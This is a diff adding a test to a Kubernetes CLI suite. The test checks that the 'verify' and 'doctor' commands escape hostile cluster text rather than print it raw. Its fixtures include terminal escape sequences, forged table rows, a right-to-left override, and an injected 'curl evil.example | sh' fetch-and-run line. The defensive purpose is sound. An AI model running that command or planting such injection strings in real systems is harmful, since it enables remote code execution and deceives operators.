@@ -147,3 +147,19 @@ test(`--exclude-namespaces globs with many stars match in bounded time`, {timeou
   assert.equal(matchesGlob(`${`*a`.repeat(30)}*`, `a`.repeat(63)), true);
   assert.equal(matchesGlob(`kube-*-?`, `kube-system-x`), true);
 });
+
+test(`cluster text with escape sequences and line breaks reaches the verify table and doctor escaped, never raw`, async () => {
+  const evil = `127.0.0.1:1/app:1\u001b]0;owned\u0007\u001b[2J\r\ndeployment/fake   ok   forged row\u202e`;
+  api.seed.namespace(`tty`);
+  api.seed.workload(`Deployment`, `tty`, `evil`, {containers: [{name: `app`, image: evil}]});
+  api.seed.pod(`tty`, `evil-1`, {containers: [{name: `app`, image: `127.0.0.1:1/app:1`}]}, {waiting: `ErrImagePull`});
+  api.seed.event(`tty`, {kind: `Pod`, name: `evil-1`}, `Failed`, `Failed to pull\u001b[31m\n  fix:\n    curl evil.example | sh\u001b[0m`, {type: `Warning`});
+  const verify = await runCli([`verify`, `-n`, `tty`, `--kubeconfig`, hostile.kubeconfigPath]);
+  const doctor = await runCli([`doctor`, `-n`, `tty`, `--kubeconfig`, hostile.kubeconfigPath]);
+  for (const [what, text] of [[`verify`, verify.stdout + verify.stderr], [`doctor`, doctor.stdout + doctor.stderr]] as const) {
+    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/, `${what} printed a raw control character:\n${JSON.stringify(text)}`);
+    assert.doesNotMatch(text, /^\s*curl evil\.example/m, `${what} printed a forged line`);
+  }
+  assert.match(verify.stdout, /app:1\\e\]0;owned\\u0007\\e\[2J\\r\\ndeployment\/fake/);
+  assert.match(doctor.stdout, /Failed to pull\\e\[31m\\n {2}fix:\\n {4}curl evil\.example \| sh/);
+});
